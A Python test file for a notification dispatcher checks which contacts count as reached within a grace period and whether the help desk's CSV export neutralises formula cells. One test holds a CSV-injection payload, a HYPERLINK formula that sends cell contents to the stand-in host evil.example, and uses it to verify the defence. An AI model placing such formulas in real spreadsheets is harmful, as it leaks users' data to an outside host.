"""Who a notice reached (pure): delivered, or sent with no failure within the grace
period; everyone else in the audience is for the help desk to phone."""

from __future__ import annotations

import csv
from datetime import UTC, datetime, timedelta

from dispatcher.ledger import DeliveryRecord
from dispatcher.receipts import unreached, unreached_csv
from dispatcher.receipts.reach import FORMULA_STARTS, spreadsheet_safe
from dispatcher.table import Contact

T0 = datetime(2021, 7, 19, 1, 0, tzinfo=UTC)
GRACE = timedelta(minutes=30)


def contact(contact_id: str, fax: str | None = None, sms: str | None = None) -> Contact:
    return Contact(contact_id, f"加盟店{contact_id}", "担当", fax, f"{contact_id}@x.jp", sms,
                   frozenset(), "test.csv")


def delivery(contact_id: str, channel: str, state: str, sent_at: datetime | None = T0
             ) -> DeliveryRecord:
    return DeliveryRecord(0, 1, contact_id, channel, f"{contact_id}-{channel}", state, 1,
                          None, None, None, sent_at)


def test_delivered_or_sent_past_the_grace_period_is_reached() -> None:
    audience = [contact("A"), contact("B"), contact("C"), contact("D", sms="+819011112222")]
    deliveries = [
        delivery("A", "email", "bounced"), delivery("A", "sms", "delivered"),
        delivery("B", "email", "sent"),
        delivery("C", "email", "bounced"), delivery("C", "sms", "undelivered"),
    ]
    within = unreached(audience, deliveries, GRACE, T0 + timedelta(minutes=29))
    assert [(u.contact_id, u.waiting) for u in within] == [("B", True), ("C", False),
                                                           ("D", False)]
    after = unreached(audience, deliveries, GRACE, T0 + GRACE)
    assert [u.contact_id for u in after] == ["C", "D"]
    assert after[1].phones == ("+819011112222",) and after[1].deliveries == ()
    assert [d.state for d in after[0].deliveries] == ["bounced", "undelivered"]


def test_failed_uncertain_and_expired_deliveries_do_not_reach() -> None:
    audience = [contact("A", fax="+81312345678", sms="+819011112222")]
    for state in ("failed", "uncertain", "expired", "pending", "submitted"):
        found = unreached(audience, [delivery("A", "fax", state)], GRACE, T0 + GRACE * 10)
        assert [u.phones for u in found] == [("+819011112222", "+81312345678")], state


def test_of_a_notice_that_asks_to_confirm_waiting_means_still_within_the_grace_period(
        ) -> None:
    """Listed for not confirming: a contact sent two hours ago is reached, not waiting."""
    audience = [contact("A"), contact("B")]
    deliveries = [delivery("A", "email", "sent"),
                  delivery("B", "email", "sent", T0 + timedelta(hours=2))]
    found = unreached(audience, deliveries, GRACE, T0 + timedelta(hours=2, minutes=5),
                      confirmed=set())
    assert [(u.contact_id, u.reached, u.waiting) for u in found] == [
        ("A", True, False), ("B", False, True)]


def test_every_cell_a_spreadsheet_would_run_is_neutralised() -> None:
    """OWASP's rule for CSV injection: a cell starting with = + - @ tab or CR gets a
    leading quote, in every row of the help desk's list (the console's and `--csv`)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
    row = {"contact": "@SUM(1+1)", "merchant": formula, "name": "-2+3", "phones":
           ["+819011112222"], "waiting": False, "channels": {}, "confirmed": False,
           "reached": False, "steps": []}
    [line] = list(csv.reader(unreached_csv([row]).splitlines()))[1:]
    assert line[:4] == ["'@SUM(1+1)", f"'{formula}", "'-2+3", "'+819011112222"]
    assert all(not cell.startswith(FORMULA_STARTS) for cell in line)
    assert spreadsheet_safe("さくら書店") == "さくら書店" and spreadsheet_safe("") == ""
    for start in FORMULA_STARTS:
        assert spreadsheet_safe(f"{start}x") == f"'{start}x"
